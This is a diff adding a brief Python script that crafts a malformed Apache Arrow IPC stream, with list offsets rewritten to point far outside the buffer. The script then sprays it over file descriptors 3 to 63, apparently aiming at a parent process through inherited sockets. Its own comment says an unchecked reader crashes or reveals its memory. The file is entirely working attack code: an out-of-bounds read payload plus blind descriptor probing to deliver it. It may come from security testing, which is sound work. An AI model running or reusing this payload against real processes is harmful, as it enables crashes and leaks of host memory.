@@ -1,0 +1,25 @@
+# seeks: parent
+# Pieces of an Arrow stream whose offsets lead out of it: who reads them unchecked crashes or shows its memory.
+import socket
+import struct
+
+import pyarrow as pa
+
+
+def model(tg):
+    sink = pa.BufferOutputStream()
+    table = pa.table({"got": ["a" * 100, "b" * 100]})
+    with pa.ipc.new_stream(sink, table.schema) as writer:
+        writer.write_table(table)
+    body = bytearray(sink.getvalue().to_pybytes())
+    at = body.index(struct.pack("<iii", 0, 100, 200))
+    body[at : at + 12] = struct.pack("<iii", 0, 1 << 28, 1 << 30)
+    header = b'{"kind": "arrow"}'
+    for number in range(3, 64):
+        try:
+            link = socket.socket(fileno=number)
+            link.sendall(struct.pack("!BIQ", 7, 2, len(body)) + b"{}" + body)
+            link.sendall(struct.pack("!BIQ", 8, len(header), 0) + header)
+            link.detach()
+        except OSError:
+            pass
